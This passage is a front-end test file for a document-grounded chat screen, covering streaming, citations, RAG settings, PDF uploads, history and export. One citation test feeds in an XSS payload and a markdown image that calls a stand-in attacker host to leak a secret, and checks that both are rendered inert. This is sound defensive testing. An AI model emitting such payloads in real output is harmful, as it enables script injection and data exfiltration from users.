import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { beforeEach, describe, expect, it, vi } from 'vitest';

import type { Source } from '@/features/chat/api/chat-api';
import { ChatScreen } from '@/features/chat/components/chat-screen';
import {
  MODELS,
  serveChat,
  stubScreenWidth,
  stubNodeMultipart,
  type ChatServer,
} from '@/features/chat/testing/chat-server';
import { i18n } from '@/lib/i18n';
import { alice, createFakeAuthClient } from '@/testing/fake-auth-client';
import { renderWithProviders } from '@/testing/render';

const renderChat = () =>
  renderWithProviders(<ChatScreen userId="alice" />, { authClient: createFakeAuthClient({ user: alice }) });

const messageBox = () => screen.getByRole('textbox', { name: 'Your message' });
const log = () => screen.getByRole('log', { name: 'Messages' });
const sendButton = () => screen.getByRole('button', { name: /^send Send$|^Send$/ });

/** jsdom's Blob has no `text()`. */
const readText = (blob: Blob) =>
  new Promise<string>((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as string);
    reader.readAsText(blob);
  });

const passage = (n: number, page: number, snippet: string): Source => ({
  n,
  file_name: 'handbook.pdf',
  page,
  snippet,
  score: 0.8,
});

/** Types a question and presses Enter; resolves with the answer stream the page opened. */
async function ask(server: ChatServer, user: ReturnType<typeof renderChat>['user'], question: string) {
  await user.type(messageBox(), `${question}{Enter}`);
  return server.nextStream();
}

beforeEach(() => {
  stubScreenWidth(1280);
});

describe('ChatScreen', { timeout: 60_000 }, () => {
  it('shows the layout: New Chat, the models with their availability, the history and the files with RAG', async () => {
    serveChat({
      chats: [
        {
          chat_id: 'chat-1',
          user_id: 'alice',
          created_at: '2026-03-04T05:06:07',
          messages: [{ role: 'user', content: 'What are the admission requirements for the master?' }],
        },
      ],
      documents: [
        { file_name: 'handbook.pdf', status: 'ready', pages: 12, pages_done: 12 },
        { file_name: 'scan.pdf', status: 'failed', reason: 'NO_TEXT_LAYER', pages: 3, pages_done: 3 },
      ],
    });
    const { user } = renderChat();

    const sidebar = screen.getByRole('complementary', { name: 'Chats' });
    expect(within(sidebar).getByRole('button', { name: /New Chat/ })).toBeInTheDocument();
    // the title is the first 30 characters of the first question, the date yyyy-MM-dd HH:mm:ss
    const history = await within(sidebar).findByRole('button', { name: /^What are the admission requir/ });
    expect(history).toHaveAccessibleName(/^What are the admission require\s*, 2026-03-04 05:06:07$/);

    const model = within(sidebar).getByRole('combobox', { name: 'Model' });
    await waitFor(() => expect(sidebar).toHaveTextContent('TinyLLaMA'));
    await user.click(model);
    const gemma = await screen.findByRole('option', { name: 'Google Gemma2:2b (not available)' });
    expect(gemma).toHaveAttribute('aria-disabled', 'true');
    expect(screen.getByRole('option', { name: 'Ali Qwen 3:4b' })).toHaveAttribute('aria-disabled', 'false');

    const files = screen.getByRole('complementary', { name: 'Your files' });
    expect(within(files).getByRole('switch', { name: 'Use my documents (RAG)' })).not.toBeChecked();
    expect(await within(files).findByText('Ready · pages: 12')).toBeInTheDocument();
    expect(
      within(files).getByText('Could not be read: The PDF has no text (scanned pages).'),
    ).toBeInTheDocument();
    expect(within(files).getByRole('button', { name: 'Delete handbook.pdf' })).toBeInTheDocument();
    expect(within(files).getByRole('button', { name: /Upload PDF/ })).toBeInTheDocument();
  });

  it('creates the chat on the first question, streams the answer word by word, then saves the exchange', async () => {
    const server = serveChat();
    const { user } = renderChat();
    await screen.findByText(
      'Ask a question to start. To ask about your own PDFs, upload them under "Your files".',
    );

    const stream = await ask(server, user, 'Hello there');

    // created first, with no messages (specification section 4)
    const creation = server.callsTo('POST', '/api/chats/')[0]!;
    expect(creation.body).toMatchObject({ user_id: 'alice', messages: [] });
    const chatId = (creation.body as { chat_id: string }).chat_id;
    expect(chatId).toMatch(/^chat-\d+$/);
    expect(stream.request).toMatchObject({
      question: 'Hello there',
      user_id: 'alice',
      file_name: null,
      top_k: 5,
      model: 'tinyllama:latest',
      chat_id: chatId,
      history: [],
    });

    expect(within(log()).getByText('Hello there')).toBeInTheDocument();
    expect(screen.getByRole('status')).toHaveTextContent('TinyLLaMA is typing...');
    expect(log()).toHaveAttribute('aria-busy', 'true');
    expect(sendButton()).toBeDisabled();

    act(() => stream.token('General '));
    expect(await within(log()).findByText('General')).toBeInTheDocument();
    act(() => stream.token('**Kenobi**'));
    expect(await within(log()).findByText('Kenobi', { selector: 'strong' })).toBeInTheDocument();

    act(() => stream.done('General **Kenobi**'));
    await waitFor(() => expect(screen.getByRole('status')).toHaveTextContent(''));
    expect(log()).toHaveAttribute('aria-busy', 'false');

    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2));
    expect(server.callsTo('POST', '/api/chats/')[1]!.body).toEqual({
      user_id: 'alice',
      chat_id: chatId,
      messages: [
        { role: 'user', content: 'Hello there' },
        { role: 'assistant', content: 'General **Kenobi**', model: 'tinyllama:latest', mode: 'model' },
      ],
    });
    // the history lists the new chat
    expect(
      await within(screen.getByRole('complementary', { name: 'Chats' })).findByRole('button', {
        name: /^Hello there\s*, \d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/,
      }),
    ).toBeInTheDocument();

    // the next question carries the chat so far
    const second = await ask(server, user, 'And then?');
    expect(second.request).toMatchObject({
      chat_id: chatId,
      history: [
        { role: 'user', content: 'Hello there' },
        { role: 'assistant', content: 'General **Kenobi**' },
      ],
    });
    expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2);
    act(() => second.done(''));
    // an empty answer reads "No answer found." (specification section 8)
    expect(await within(log()).findByText('No answer found.')).toBeInTheDocument();
  });

  it('asks one question at a time, also while a new chat is still being created', async () => {
    const server = serveChat();
    let created!: () => void;
    server.state.saveGate = new Promise((resolve) => (created = resolve));
    const { user } = renderChat();
    await user.type(messageBox(), 'First question{Enter}');
    await user.type(messageBox(), 'Second question{Enter}');
    // the second stays in the box: the page is busy with the first
    expect(messageBox()).toHaveValue('Second question');
    server.state.saveGate = null;
    act(() => created());

    const stream = await server.nextStream();
    expect(stream.request).toMatchObject({ question: 'First question', history: [] });
    act(() => stream.done('An answer.'));
    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2));
    expect(server.state.streams).toHaveLength(1);
    expect(server.callsTo('POST', '/api/chats/')[1]!.body).toMatchObject({
      messages: [
        { role: 'user', content: 'First question' },
        { role: 'assistant', content: 'An answer.' },
      ],
    });
  });

  it('sends with Enter, adds a line with Shift+Enter, and sends nothing blank', async () => {
    const server = serveChat();
    const { user } = renderChat();
    const box = messageBox();

    await user.type(box, '   {Enter}');
    await user.type(box, 'first line{Shift>}{Enter}{/Shift}second line');
    expect(box).toHaveValue('   first line\nsecond line');
    expect(server.callsTo('POST', '/chat_with_file/stream')).toHaveLength(0);

    await user.keyboard('{Enter}');
    const stream = await server.nextStream();
    expect(stream.request.question).toBe('first line\nsecond line');
    expect(box).toHaveValue('');
    act(() => stream.done('ok'));
    await within(log()).findByText('ok');
  });

  it('stops a streaming answer with Stop, keeps what came and saves it', async () => {
    const server = serveChat();
    const { user } = renderChat();
    const stream = await ask(server, user, 'Tell me a long story');
    act(() => stream.token('Once upon a time'));
    await within(log()).findByText('Once upon a time');

    await user.click(screen.getByRole('button', { name: /Stop/ }));

    expect(await within(log()).findByText('Stopped: the answer is incomplete.')).toBeInTheDocument();
    expect(stream.closed).toBe(true);
    expect(screen.queryByRole('button', { name: /Stop/ })).not.toBeInTheDocument();
    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2));
    expect(server.callsTo('POST', '/api/chats/')[1]!.body).toMatchObject({
      messages: [
        { role: 'user', content: 'Tell me a long story' },
        { role: 'assistant', content: 'Once upon a time' },
      ],
    });
  });

  it('links each citation to its source, which opens the passage; raw HTML and images stay inert', async () => {
    const server = serveChat({ documents: [{ file_name: 'handbook.pdf', status: 'ready', pages: 9 }] });
    const { user } = renderChat();
    const stream = await ask(server, user, 'When is the deadline?');
    const sources = [
      passage(1, 4, 'Applications close on 15 January.'),
      passage(2, 7, 'Late applications are not accepted.'),
    ];

    act(() => stream.sources(sources));
    act(() =>
      stream.done(
        'The deadline is 15 January [1], and late ones are refused [2]. <img src=x onerror="alert(1)"> ' +
          '![tracker](https://evil.example/leak?q=secret) <b>bold</b> [9]',
        { sources, rag: true },
      ),
    );

    const citation = await within(log()).findByRole('button', { name: 'Source 1: handbook.pdf, page 4' });
    expect(citation).toHaveTextContent('[1]');
    // a marker without a source stays text
    expect(log()).toHaveTextContent('[9]');
    expect(log().querySelector('img')).toBeNull();
    expect(log().querySelector('b')).toBeNull();
    expect(within(log()).getByRole('link', { name: 'tracker' })).toHaveAttribute(
      'href',
      'https://evil.example/leak?q=secret',
    );
    const sourceList = within(log()).getByRole('list', { name: 'Sources' });
    expect(
      within(sourceList)
        .getAllByRole('listitem')
        .map((item) => item.textContent),
    ).toEqual(['[1] handbook.pdf, page 4', '[2] handbook.pdf, page 7']);

    await user.click(citation);
    const dialog = await screen.findByRole('dialog', { name: 'Source 1' });
    expect(within(dialog).getByText('handbook.pdf')).toBeInTheDocument();
    expect(within(dialog).getByText('4')).toBeInTheDocument();
    expect(within(dialog).getByText('Applications close on 15 January.')).toBeInTheDocument();
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());

    await user.click(within(sourceList).getByRole('button', { name: /^\[2\] handbook\.pdf\s*, page 7$/ }));
    const second = await screen.findByRole('dialog', { name: 'Source 2' });
    expect(within(second).getByText('Late applications are not accepted.')).toBeInTheDocument();
  });

  it('says plainly when no language model answered: passages, or nothing to answer with', async () => {
    const server = serveChat({
      models: { server: 'unreachable', models: MODELS.map((model) => ({ ...model, available: false })) },
    });
    const { user } = renderChat();
    const sidebar = screen.getByRole('complementary', { name: 'Chats' });
    expect(
      await within(sidebar).findByText(
        'No language model server is connected. Answers quote the best passages of your documents.',
      ),
    ).toBeInTheDocument();

    const stream = await ask(server, user, 'What does the handbook say?');
    // no model to name: the assistant types
    expect(screen.getByRole('status')).toHaveTextContent('Assistant is typing...');
    const sources = [passage(1, 2, 'The handbook says hello.')];
    act(() => stream.sources(sources));
    act(() => stream.done('> The handbook says hello. [1]', { sources, mode: 'passages', rag: true }));
    expect(
      await within(log()).findByText(
        'No language model is connected: these are the passages of your documents that match your question best.',
      ),
    ).toBeInTheDocument();

    // no model wrote it: the answer is the assistant's, and saved without a model
    const answer = within(log()).getAllByRole('article').at(-1)!;
    expect(within(answer).getByRole('heading', { name: 'Assistant' })).toBeInTheDocument();
    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2));
    expect(server.callsTo('POST', '/api/chats/')[1]!.body).toMatchObject({
      messages: [{ role: 'user' }, { role: 'assistant', content: '> The handbook says hello. [1]', sources }],
    });
    expect(
      (server.callsTo('POST', '/api/chats/')[1]!.body as { messages: object[] }).messages[1],
    ).not.toHaveProperty('model');

    const next = await ask(server, user, 'Hello?');
    // the service leaves answers no model wrote out of the model's prompt by their mode (ADR 24)
    expect((next.request.history as object[])[1]).toMatchObject({ role: 'assistant', mode: 'passages' });
    act(() => next.done('Connect a model server with OLLAMA_URL.', { mode: 'unavailable' }));
    expect(
      await within(log()).findByText(
        'No language model server is reachable, and RAG is off: there is nothing to answer with.',
      ),
    ).toBeInTheDocument();

    // saved with how each answer was made, so that the chat opened again says so, and names no model
    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(3));
    const saved = (server.callsTo('POST', '/api/chats/')[2]!.body as { messages: object[] }).messages;
    expect(saved[1]).toMatchObject({ mode: 'passages' });
    expect(saved[1]).not.toHaveProperty('model');
    expect(saved[3]).toMatchObject({ mode: 'unavailable' });
    expect(saved[3]).not.toHaveProperty('model');
  });

  it('shows a failed answer where it would have been, with Try again', async () => {
    const server = serveChat();
    const { user } = renderChat();
    server.state.streamRefusal = { status: 429, code: 'RATE_LIMITED', retryAfter: '7' };
    await user.type(messageBox(), 'Quick question{Enter}');
    expect(
      await within(log()).findByText('Too many questions at once. Please try again in 7 s.'),
    ).toBeInTheDocument();

    await user.click(within(log()).getByRole('button', { name: 'Try again' }));
    const stream = await server.nextStream();
    expect(stream.request.question).toBe('Quick question');
    act(() => stream.event('error', { detail: 'model gone', code: 'MODEL_UNAVAILABLE' }));
    expect(
      await within(log()).findByText(
        'This model is not installed on the model server. Choose another model.',
      ),
    ).toBeInTheDocument();
  });

  it('regenerates the last answer, replacing it in the saved chat', async () => {
    const server = serveChat();
    const { user } = renderChat();
    const first = await ask(server, user, 'Pick a number');
    act(() => first.done('Seven'));
    await within(log()).findByText('Seven');
    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2));

    await user.click(within(log()).getByRole('button', { name: 'Regenerate the last answer' }));
    const second = await server.nextStream();
    expect(second.request).toMatchObject({ question: 'Pick a number', history: [] });
    act(() => second.done('Three'));
    await within(log()).findByText('Three');
    expect(within(log()).queryByText('Seven')).not.toBeInTheDocument();
    expect(within(log()).getAllByText('Pick a number')).toHaveLength(1);

    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(3));
    expect(server.callsTo('POST', '/api/chats/')[2]!.body).toMatchObject({
      replace: true,
      messages: [
        { role: 'user', content: 'Pick a number' },
        { role: 'assistant', content: 'Three' },
      ],
    });
  });

  it('loads a chat from the history, and deleting the open chat clears the messages and the id', async () => {
    const server = serveChat({
      chats: [
        {
          chat_id: 'chat-100',
          user_id: 'alice',
          created_at: '2026-01-02T03:04:05',
          messages: [
            { role: 'user', content: 'Older question' },
            { role: 'assistant', content: 'Older answer' },
          ],
        },
        {
          chat_id: 'chat-200',
          user_id: 'alice',
          created_at: '2026-02-02T03:04:05',
          messages: [{ role: 'user', content: 'Newer question' }],
        },
      ],
    });
    const { user } = renderChat();
    const sidebar = screen.getByRole('complementary', { name: 'Chats' });
    const entries = await within(sidebar).findAllByRole('button', { name: /question\s*,/ });
    // newest first
    expect(entries.map((entry) => entry.textContent)).toEqual([
      'Newer question, 2026-02-02 03:04:05',
      'Older question, 2026-01-02 03:04:05',
    ]);

    await user.click(entries[1]!);
    expect(await within(log()).findByText('Older answer')).toBeInTheDocument();
    expect(within(log()).getByText('Older question')).toBeInTheDocument();
    expect(within(sidebar).getByRole('button', { name: /^Older question/ })).toHaveAttribute(
      'aria-current',
      'true',
    );

    // a question in a loaded chat continues it
    const stream = await ask(server, user, 'Follow-up');
    expect(stream.request).toMatchObject({
      chat_id: 'chat-100',
      history: [{ content: 'Older question' }, { content: 'Older answer' }],
    });
    act(() => stream.done('Sure'));
    await within(log()).findByText('Sure');

    await user.click(within(sidebar).getByRole('button', { name: 'Delete chat: Older question' }));
    await user.click(await screen.findByRole('button', { name: 'Delete' }));
    await waitFor(() => expect(within(log()).queryByText('Older answer')).not.toBeInTheDocument());
    expect(server.callsTo('DELETE', '/api/chats/alice/chat-100')).toHaveLength(1);
    await waitFor(() =>
      expect(within(sidebar).queryByRole('button', { name: /^Older question/ })).not.toBeInTheDocument(),
    );

    // without an id, the next question creates a new chat
    const next = await ask(server, user, 'Fresh start');
    const created = server.callsTo('POST', '/api/chats/').at(-1)!.body as {
      chat_id: string;
      messages: unknown[];
    };
    expect(created.chat_id).not.toBe('chat-100');
    expect(created.messages).toEqual([]);
    expect(next.request.history).toEqual([]);
    act(() => next.done('Hi'));
    await within(log()).findByText('Hi');
  });

  it('New Chat: a fresh id, the notice, RAG off and no file selected', async () => {
    localStorage.setItem('ragEnabled', 'true');
    localStorage.setItem('selectedFiles', JSON.stringify(['handbook.pdf']));
    const server = serveChat({ documents: [{ file_name: 'handbook.pdf', status: 'ready', pages: 3 }] });
    const { user } = renderChat();
    const files = screen.getByRole('complementary', { name: 'Your files' });
    expect(within(files).getByRole('switch', { name: 'Use my documents (RAG)' })).toBeChecked();
    expect(await within(files).findByRole('radio', { name: /handbook\.pdf/ })).toBeChecked();

    await user.click(screen.getByRole('button', { name: /New Chat/ }));

    expect(await within(log()).findByText('New chat started. RAG is disabled.')).toBeInTheDocument();
    // off once the chat service agreed
    await waitFor(() =>
      expect(within(files).getByRole('switch', { name: 'Use my documents (RAG)' })).not.toBeChecked(),
    );
    expect(within(files).getByRole('radio', { name: /handbook\.pdf/ })).not.toBeChecked();
    await waitFor(() => expect(localStorage.getItem('ragEnabled')).toBe('false'));
    expect(localStorage.getItem('selectedFiles')).toBe('[]');
    expect(server.callsTo('POST', '/set_rag').at(-1)!.body).toEqual({ user_id: 'alice', enable: false });

    // the new chat's id is used on its first question, saved first with no messages
    const stream = await ask(server, user, 'Hi');
    const creation = server.callsTo('POST', '/api/chats/')[0]!.body as {
      chat_id: string;
      messages: unknown[];
    };
    expect(creation.messages).toEqual([]);
    expect(stream.request.chat_id).toBe(creation.chat_id);
    // the notice is the page's, not part of the chat
    expect(stream.request.history).toEqual([]);
    act(() => stream.done('Hello'));
    await within(log()).findByText('Hello');
  });

  it('New Chat keeps RAG shown on when the chat service could not turn it off (its answers still use the files)', async () => {
    localStorage.setItem('ragEnabled', 'true');
    localStorage.setItem('selectedFiles', JSON.stringify(['handbook.pdf']));
    const server = serveChat({ documents: [{ file_name: 'handbook.pdf', status: 'ready', pages: 3 }] });
    const { user } = renderChat();
    const files = screen.getByRole('complementary', { name: 'Your files' });
    expect(await within(files).findByRole('radio', { name: /handbook\.pdf/ })).toBeChecked();
    await waitFor(() => expect(server.callsTo('POST', '/set_rag')).toHaveLength(1));

    server.state.setRagStatus = 503;
    await user.click(screen.getByRole('button', { name: /New Chat/ }));
    await waitFor(() => expect(server.callsTo('POST', '/set_rag')).toHaveLength(2));

    expect(server.state.rag).toBe(true);
    expect(within(files).getByRole('switch', { name: 'Use my documents (RAG)' })).toBeChecked();
    expect(localStorage.getItem('ragEnabled')).toBe('true');
    // the selection is the page's own: cleared either way
    await waitFor(() =>
      expect(within(files).getByRole('radio', { name: /handbook\.pdf/ })).not.toBeChecked(),
    );
  });

  it('tells the chat service the remembered RAG setting when the page opens', async () => {
    localStorage.setItem('ragEnabled', 'true');
    const server = serveChat();
    renderChat();
    await waitFor(() => expect(server.callsTo('POST', '/set_rag')).toHaveLength(1));
    expect(server.callsTo('POST', '/set_rag')[0]!.body).toEqual({ user_id: 'alice', enable: true });
    expect(server.state.rag).toBe(true);
  });

  it('changes RAG only when the server agrees; off clears the selection; picking a file turns it on', async () => {
    const server = serveChat({
      documents: [
        { file_name: 'a.pdf', status: 'ready', pages: 1 },
        { file_name: 'b.pdf', status: 'ready', pages: 2 },
      ],
    });
    const { user } = renderChat();
    const files = screen.getByRole('complementary', { name: 'Your files' });
    const rag = within(files).getByRole('switch', { name: 'Use my documents (RAG)' });

    server.state.setRagStatus = 500;
    await user.click(rag);
    await waitFor(() =>
      expect(server.callsTo('POST', '/set_rag').at(-1)!.body).toEqual({ user_id: 'alice', enable: true }),
    );
    await waitFor(() => expect(rag).not.toHaveClass('ant-switch-loading'));
    expect(rag).not.toBeChecked();
    expect(localStorage.getItem('ragEnabled')).toBe('false');

    server.state.setRagStatus = 200;
    // selecting a file while RAG is off turns it on
    await user.click(await within(files).findByRole('radio', { name: /b\.pdf/ }));
    await waitFor(() => expect(rag).toBeChecked());
    expect(within(files).getByRole('radio', { name: /b\.pdf/ })).toBeChecked();
    expect(localStorage.getItem('selectedFiles')).toBe('["b.pdf"]');

    // only the selected file is searched
    const stream = await ask(server, user, 'What is in b?');
    expect(stream.request.file_name).toBe('b.pdf');
    act(() => stream.done('B things'));
    await within(log()).findByText('B things');

    await user.click(within(files).getByRole('radio', { name: 'All my files' }));
    await waitFor(() => expect(localStorage.getItem('selectedFiles')).toBe('[]'));
    await user.click(within(files).getByRole('radio', { name: /a\.pdf/ }));
    await waitFor(() => expect(localStorage.getItem('selectedFiles')).toBe('["a.pdf"]'));

    await user.click(rag);
    await waitFor(() => expect(rag).not.toBeChecked());
    expect(within(files).getByRole('radio', { name: /a\.pdf/ })).not.toBeChecked();
    expect(localStorage.getItem('selectedFiles')).toBe('[]');
    expect(localStorage.getItem('ragEnabled')).toBe('false');
  });

  it('uploads a PDF: note, RAG on, selected, and its reading shown until ready; the same name is refused', async () => {
    const server = serveChat({ documents: [{ file_name: 'old.pdf', status: 'ready', pages: 1 }] });
    const NodeFile = await stubNodeMultipart();
    const pdf = (content: string, name: string) =>
      new NodeFile([content], name, { type: 'application/pdf' }) as unknown as File;
    const { user } = renderChat();
    const files = screen.getByRole('complementary', { name: 'Your files' });
    await within(files).findByRole('radio', { name: /old\.pdf/ });
    const input = screen.getByTestId('chat-upload-input');

    await user.upload(input, pdf('%PDF-1.7', 'guide.pdf'));

    expect(
      await within(log()).findByText(
        'File "guide.pdf" uploaded and selected. It can be searched once it has been read.',
      ),
    ).toBeInTheDocument();
    const upload = server.callsTo('POST', '/upload_pdf')[0]!.body as FormData;
    expect((upload.get('file') as File).name).toBe('guide.pdf');
    expect(upload.get('user_id')).toBe('alice');
    expect(within(files).getByRole('switch', { name: 'Use my documents (RAG)' })).toBeChecked();
    expect(await within(files).findByRole('radio', { name: /guide\.pdf/ })).toBeChecked();
    expect(within(files).getByText('Waiting to be read')).toBeInTheDocument();
    await waitFor(() =>
      expect(JSON.parse(localStorage.getItem('uploadedFiles')!)).toEqual(['guide.pdf', 'old.pdf']),
    );

    // the list is read again while the file is being read
    server.state.documents[0] = { file_name: 'guide.pdf', status: 'processing', pages: 10, pages_done: 4 };
    expect(
      await within(files).findByText('Reading: page 4 of 10', {}, { timeout: 10_000 }),
    ).toBeInTheDocument();
    server.state.documents[0] = { file_name: 'guide.pdf', status: 'ready', pages: 10, pages_done: 10 };
    expect(await within(files).findByText('Ready · pages: 10', {}, { timeout: 10_000 })).toBeInTheDocument();

    // a name already in the list is refused with a note, without asking the server
    await user.upload(input, pdf('%PDF-1.7', 'old.pdf'));
    expect(await within(log()).findByText('A file named "old.pdf" is already uploaded.')).toBeInTheDocument();
    expect(server.callsTo('POST', '/upload_pdf')).toHaveLength(1);

    // the server's refusals are notes too
    server.state.uploadRefusal = { status: 415, code: 'INVALID_PDF' };
    await user.upload(input, pdf('<html>', 'fake.pdf'));
    expect(await within(log()).findByText('File "fake.pdf" is not a PDF.')).toBeInTheDocument();
  });

  it('deletes a file from the list and the selection, and notes a failure', async () => {
    localStorage.setItem('ragEnabled', 'true');
    localStorage.setItem('selectedFiles', JSON.stringify(['a.pdf']));
    const server = serveChat({
      documents: [
        { file_name: 'a.pdf', status: 'ready', pages: 1 },
        { file_name: 'b.pdf', status: 'ready', pages: 2 },
      ],
    });
    const { user } = renderChat();
    const files = screen.getByRole('complementary', { name: 'Your files' });
    expect(await within(files).findByRole('radio', { name: /a\.pdf/ })).toBeChecked();

    await user.click(within(files).getByRole('button', { name: 'Delete a.pdf' }));
    expect(await within(log()).findByText('File "a.pdf" deleted.')).toBeInTheDocument();
    await waitFor(() =>
      expect(within(files).queryByRole('radio', { name: /a\.pdf/ })).not.toBeInTheDocument(),
    );
    expect(server.callsTo('DELETE', '/delete_file')[0]!.body).toEqual({
      user_id: 'alice',
      file_name: 'a.pdf',
    });
    await waitFor(() => expect(localStorage.getItem('selectedFiles')).toBe('[]'));
    expect(localStorage.getItem('uploadedFiles')).toBe('["b.pdf"]');

    server.state.deleteFailure = 'status';
    await user.click(within(files).getByRole('button', { name: 'Delete b.pdf' }));
    expect(await within(log()).findByText('Failed to delete file "b.pdf".')).toBeInTheDocument();
    server.state.deleteFailure = 'network';
    await user.click(within(files).getByRole('button', { name: 'Delete b.pdf' }));
    expect(await within(log()).findByText('Error deleting file "b.pdf".')).toBeInTheDocument();
    expect(within(files).getByRole('radio', { name: /b\.pdf/ })).toBeInTheDocument();
  });

  it('remembers the chosen model (selectedModel) and asks it', async () => {
    const server = serveChat();
    const { user } = renderChat();
    const model = screen.getByRole('combobox', { name: 'Model' });
    await waitFor(() =>
      expect(screen.getByRole('complementary', { name: 'Chats' })).toHaveTextContent('TinyLLaMA'),
    );
    await user.click(model);
    await user.click(await screen.findByRole('option', { name: 'Ali Qwen 3:4b' }));
    await waitFor(() => expect(localStorage.getItem('selectedModel')).toBe('qwen3:4b'));

    const stream = await ask(server, user, 'Hi');
    expect(stream.request.model).toBe('qwen3:4b');
    expect(screen.getByRole('status')).toHaveTextContent('Ali Qwen 3:4b is typing...');
    act(() => stream.done('Hello'));
    expect(await within(log()).findByRole('heading', { name: 'Ali Qwen 3:4b' })).toBeInTheDocument();
  });

  it('exports the chat as Markdown', async () => {
    const server = serveChat();
    const created: Blob[] = [];
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      created.push(blob as Blob);
      return 'blob:chat';
    });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
    const clicks = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    const { user } = renderChat();
    expect(screen.getByRole('button', { name: /Export as Markdown/ })).toBeDisabled();

    const stream = await ask(server, user, 'Where is the office?');
    const sources = [passage(1, 2, 'The office is in Berlin.')];
    act(() => stream.done('In Berlin [1].', { sources }));
    await within(log()).findByRole('button', { name: 'Source 1: handbook.pdf, page 2' });

    await user.click(screen.getByRole('button', { name: /Export as Markdown/ }));
    expect(clicks).toHaveBeenCalledTimes(1);
    const link = clicks.mock.contexts[0] as HTMLAnchorElement;
    expect(link.download).toMatch(/^chat-\d+\.md$/);
    expect(await readText(created[0]!)).toBe(
      [
        '# Where is the office?',
        '## You',
        'Where is the office?',
        '## Assistant (TinyLLaMA)',
        'In Berlin [1].',
        '### Sources',
        '[1] handbook.pdf, page 2\n\n> The office is in Berlin.',
      ].join('\n\n') + '\n',
    );
  });

  it('puts the chats and the files into drawers on a phone', async () => {
    stubScreenWidth(360);
    serveChat({ documents: [{ file_name: 'a.pdf', status: 'ready', pages: 1 }] });
    const { user } = renderChat();
    expect(screen.queryByRole('complementary')).not.toBeInTheDocument();

    await user.click(screen.getByRole('button', { name: /^message Chats$|^Chats$/ }));
    const chats = await screen.findByRole('dialog', { name: 'Chats' });
    expect(within(chats).getByRole('button', { name: /New Chat/ })).toBeInTheDocument();
    await user.click(within(chats).getByRole('button', { name: /New Chat/ }));
    // the drawer closes (its exit animation never ends in jsdom; the wrapper says it is closing at once)
    await waitFor(() => expect(chats.closest('.ant-drawer')).not.toHaveClass('ant-drawer-open'));
    expect(await within(log()).findByText('New chat started. RAG is disabled.')).toBeInTheDocument();

    await user.click(screen.getByRole('button', { name: /Files$/ }));
    // Ant Design gives every drawer the same id in tests ("test-id"), so the dialog is found by its heading
    const files = await screen
      .findByRole('heading', { name: 'Your files' })
      .then((heading) => heading.closest<HTMLElement>('[role="dialog"]')!);
    expect(await within(files).findByRole('radio', { name: /a\.pdf/ })).toBeInTheDocument();
  });

  it('is written right to left in Arabic', async () => {
    await i18n.changeLanguage('ar');
    serveChat();
    renderChat();
    expect(await screen.findByRole('complementary', { name: 'المحادثات' })).toBeInTheDocument();
    expect(screen.getByRole('textbox', { name: 'رسالتك' })).toBeInTheDocument();
    expect(document.documentElement).toHaveAttribute('dir', 'rtl');
  });

  it('collapses the chat list on a wide screen', async () => {
    serveChat();
    const { user } = renderChat();
    const toggle = screen.getByRole('button', { name: /Hide chats/ });
    expect(toggle).toHaveAttribute('aria-expanded', 'true');
    await user.click(toggle);
    expect(screen.queryByRole('complementary', { name: 'Chats' })).not.toBeInTheDocument();
    expect(screen.getByRole('button', { name: /Show chats/ })).toHaveAttribute('aria-expanded', 'false');
    fireEvent.click(screen.getByRole('button', { name: /Show chats/ }));
    expect(screen.getByRole('complementary', { name: 'Chats' })).toBeInTheDocument();
  });

  it('searches the history', async () => {
    const server = serveChat({
      chats: [
        {
          chat_id: 'c1',
          user_id: 'alice',
          created_at: '2026-01-01T10:00:00',
          messages: [{ role: 'user', content: 'Visa for Germany' }],
        },
        {
          chat_id: 'c2',
          user_id: 'alice',
          created_at: '2026-01-02T10:00:00',
          messages: [{ role: 'user', content: 'Housing in Lyon' }],
        },
      ],
    });
    const { user } = renderChat();
    const sidebar = screen.getByRole('complementary', { name: 'Chats' });
    await within(sidebar).findByRole('button', { name: /^Housing in Lyon/ });

    await user.type(within(sidebar).getByRole('searchbox', { name: 'Search chats' }), 'visa');
    await waitFor(() =>
      expect(within(sidebar).queryByRole('button', { name: /^Housing in Lyon/ })).not.toBeInTheDocument(),
    );
    expect(within(sidebar).getByRole('button', { name: /^Visa for Germany/ })).toBeInTheDocument();
    expect(server.state.calls.some((call) => call.search.get('q') === 'visa')).toBe(true);

    await user.type(within(sidebar).getByRole('searchbox', { name: 'Search chats' }), 'xyz');
    expect(await within(sidebar).findByText('No chat matches your search.')).toBeInTheDocument();
  });

  it('keeps a history search within the 200 characters the chat service takes', async () => {
    const server = serveChat();
    const { user } = renderChat();
    const sidebar = screen.getByRole('complementary', { name: 'Chats' });
    const search = within(sidebar).getByRole('searchbox', { name: 'Search chats' });
    await user.click(search);
    await user.paste('a'.repeat(250));
    expect(search).toHaveValue('a'.repeat(200));
    await waitFor(() =>
      expect(server.state.calls.some((call) => call.search.get('q') === 'a'.repeat(200))).toBe(true),
    );
    expect(server.state.calls.every((call) => (call.search.get('q') ?? '').length <= 200)).toBe(true);
  });

  it('keeps what another tab added to the chat: a refused save is appended to the stored messages', async () => {
    const server = serveChat();
    const { user } = renderChat();
    const first = await ask(server, user, 'One');
    act(() => first.done('Answer one'));
    await within(log()).findByText('Answer one');
    await waitFor(() => expect(server.callsTo('POST', '/api/chats/')).toHaveLength(2));
    const chatId = (server.callsTo('POST', '/api/chats/')[0]!.body as { chat_id: string }).chat_id;

    // another tab extends the chat meanwhile; the service refuses a save that would drop its messages (ADR 24)
    const stored = server.state.chats.find((chat) => chat.chat_id === chatId)!;
    stored.messages = [...stored.messages, { role: 'user', content: 'From the other tab' }];
